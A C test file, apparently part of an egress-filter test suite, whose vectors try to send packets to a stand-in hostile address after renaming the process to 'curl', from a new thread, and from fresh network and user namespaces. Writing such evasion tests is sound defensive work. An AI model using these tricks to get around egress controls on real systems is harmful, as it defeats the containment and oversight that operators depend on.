// SPDX-License-Identifier: MIT
/* Who sends: names, threads, namespaces that are not those it began with. */
#include "egress.h"

#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <sys/prctl.h>

static void renamed(int)
{
	step("prctl", prctl(PR_SET_NAME, "curl"));
	send_ipv4(open_socket(AF_INET, SOCK_DGRAM, 0), EVIL_IPV4);
}

static void *send_in_thread(void *)
{
	send_ipv4(open_socket(AF_INET, SOCK_DGRAM, 0), EVIL_IPV4);
	return NULL;
}

static void thread(int)
{
	pthread_t thread;

	errno = pthread_create(&thread, NULL, send_in_thread, NULL);
	if (errno)
		step("pthread_create", -1);
	pthread_join(thread, NULL);
}

/* A socket stays in the network it was made in. */
static void other_network(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);

	step("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNET));
	send_ipv4(fd, EVIL_IPV4);
}

/* Root of a user namespace, in which it has every capability. */
static void other_user(int)
{
	int fd = open_socket(AF_INET6, STREAM, 0);

	step("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
	connect_ipv6(fd, EVIL_IPV6);
}

const struct vector process_vectors[] = {
	{"renamed", renamed}, {"thread", thread}, {"other_network", other_network}, {"other_user", other_user}, {},
};
